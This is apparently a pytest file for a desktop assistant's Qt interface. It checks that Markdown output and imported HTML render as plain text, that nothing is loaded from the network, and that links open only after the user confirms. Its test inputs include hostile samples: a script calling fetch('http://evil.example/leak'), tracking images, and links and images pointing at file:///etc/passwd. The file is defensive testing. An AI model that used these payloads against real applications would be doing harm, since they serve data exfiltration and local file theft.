"""Hostile content in what the window shows: model output in the Markdown views (Summarize, Draft) and
an imported HTML document render as text; no script, no image, no style sheet, no file is loaded and
no connection opened (the audit hook of test_no_network sees every one); a link opens only after the
user says yes, and only web and mail links become links at all (``file:``, ``javascript:`` stay text).
The chat's message view is covered by test_chat_pane_markdown.py and test_chat_pane.py."""

from __future__ import annotations

from pathlib import Path

from PySide6.QtCore import QUrl
from PySide6.QtGui import QDesktopServices, QTextDocument
from PySide6.QtWidgets import QMessageBox, QPlainTextEdit

from desk_assistant.ui.markdown_render import render_markdown
from desk_assistant.ui.widgets.document_input import DocumentInput
from desk_assistant.ui.widgets.markdown_view import MarkdownView
from tests.ui import chat_samples
from tests.ui.test_no_network import recording  # noqa: F401 (the audit-hook fixture)

MORE = (
    "\n\nAlso [passwd](file:///etc/passwd), <file:///etc/passwd>, ![x](file:///etc/passwd), "
    '<link rel="stylesheet" href="http://evil.example/x.css"> and <https://example.org/ok>.'
)


def images_in(doc: QTextDocument) -> list[str]:
    found = []
    block = doc.begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            fmt = it.fragment().charFormat()
            if fmt.isImageFormat():
                found.append(fmt.toImageFormat().name())
            it += 1
        block = block.next()
    return found


def test_file_and_script_links_never_become_links() -> None:
    out = render_markdown("[p](file:///etc/passwd) <file:///etc/passwd> [j](javascript:alert(1)) [d](data:x)")
    assert out.links == [] and "<a " not in out.html
    assert "file:///etc/passwd" in out.html  # shown, as text


def test_markdown_view_loads_nothing_and_asks_before_opening(qtbot, recording, monkeypatch) -> None:  # noqa: F811
    view = MarkdownView()
    qtbot.addWidget(view)
    view.resize(500, 400)
    view.show()
    view.set_markdown(chat_samples.HOSTILE + MORE)
    view.grab()  # laid out and painted
    shown = view.toPlainText()
    assert "<script>alert('x')</script>" in shown and '<img src="http://evil.example/track.png">' in shown
    assert "(file:///etc/passwd)" in shown  # an image of a local file: its address, as text
    assert images_in(view.document()) == []
    assert view._links == ["http://example.com/page", "https://example.org/ok"]
    # even an <img> that slipped into the HTML gets nothing, local or remote (QTextBrowser would read
    # a local file by default)
    passwd = QUrl.fromLocalFile("/etc/passwd")
    assert view.loadResource(int(QTextDocument.ResourceType.ImageResource.value), passwd) is None
    view.setHtml('<img src="file:///etc/passwd"><img src="http://evil.example/direct.png"> text')
    view.grab()

    asked: list[str] = []
    opened: list[str] = []
    answer = [QMessageBox.StandardButton.No]
    monkeypatch.setattr(QMessageBox, "question", lambda *args, **_k: asked.append(args[2]) or answer[0])
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url.toString()) or True)
    view.set_markdown(chat_samples.HOSTILE + MORE)
    view.anchorClicked.emit(QUrl("link:0"))
    assert asked and "http://example.com/page" in asked[0] and opened == []
    answer[0] = QMessageBox.StandardButton.Yes
    view.anchorClicked.emit(QUrl("link:1"))
    assert opened == ["https://example.org/ok"]
    asked.clear()
    for crafted in ("file:///etc/passwd", "link:99", "javascript:alert(1)"):
        view.anchorClicked.emit(QUrl(crafted))  # an anchor the renderer never makes: ignored
    assert asked == [] and opened == ["https://example.org/ok"]
    assert recording == []


def test_an_imported_html_document_is_plain_text(qtbot, recording, tmp_path: Path) -> None:  # noqa: F811
    page = tmp_path / "page.html"
    page.write_text(
        "<html><head><link rel='stylesheet' href='http://evil.example/x.css'>"
        "<script>fetch('http://evil.example/leak')</script></head><body>"
        "<img src='http://evil.example/pixel.gif'><img src='file:///etc/passwd'>"
        "<p>The council approved the tram line.</p><a href='file:///etc/passwd'>passwords</a>"
        "</body></html>",
        "utf-8",
    )
    source = DocumentInput()
    qtbot.addWidget(source)
    source.show()
    with qtbot.waitSignal(source.documentLoaded, timeout=10000):
        source.open_file(page)
    assert isinstance(source.edit, QPlainTextEdit)  # plain text: nothing in it is ever interpreted
    text = source.text()
    assert "The council approved the tram line." in text
    assert "fetch(" not in text and "<img" not in text
    source.grab()
    assert recording == []
